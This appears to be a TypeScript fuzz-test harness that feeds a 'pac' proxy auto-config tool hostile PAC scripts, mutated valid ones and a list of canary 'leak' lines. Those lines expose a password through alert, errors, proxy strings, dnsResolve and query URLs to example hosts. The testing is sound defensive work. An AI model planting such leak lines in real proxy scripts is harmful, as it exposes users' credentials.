import { readdirSync, readFileSync } from 'node:fs';
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { hostileScripts } from '../../../fixtures/pac/hostile-scripts.ts';
import { canary } from '../canary.ts';
import type { Draw } from '../draw.ts';
import type { Open } from '../kind.ts';
import { mutated } from '../mutate.ts';
import { runCommand } from '../run-command.ts';

const cases = new URL('../../../fixtures/pac/case/', import.meta.url);
const good = readdirSync(cases)
  .filter((name) => name.endsWith('.pac'))
  .map((name) => readFileSync(new URL(name, cases)));
/** Those that are merely long are the bench's, `bench/discovery/pac/hostile.ts`. */
const harmful = hostileScripts.filter(({ name }) => !name.includes('50 MB'));
const urls = ['https://a.example/', 'http://b.corp.example:8080/path'];

/** What a script may say of a password, by each way out of it. */
const leaks: readonly string[] = [
  `alert('token=${canary}');`,
  `throw new Error('password: ${canary}');`,
  `return 'PROXY jane:${canary}@proxy.example:8080; DIRECT';`,
  `dnsResolve('http://jane:${canary}@a.example/');`,
  `alert('asked http://a.example/?ref=${canary}');`,
  `return 'PROXY proxy.example:8080/?site=${canary}';`,
];

/** PAC files that harm who runs them, and good ones gone bad, through `pac`. */
export const pacScripts: Open = async (folder) => {
  const file = join(folder, 'proxy.pac');
  return {
    feed: async (draw) => {
      await writeFile(file, script(draw));
      const format = draw.oneOf(['json', 'table']);
      return runCommand(['pac', file, ...urls, '--timeout', '300ms', '--format', format]);
    },
  };
};

function script(draw: Draw): Uint8Array | string {
  if (draw.chance(0.25)) return draw.oneOf(harmful).source();
  if (draw.chance(0.25)) {
    const body = `${draw.oneOf(leaks)} ${draw.oneOf(leaks)}`;
    return `function FindProxyForURL(url, host) { ${body} }`;
  }
  return mutated(draw.oneOf(good), draw);
}
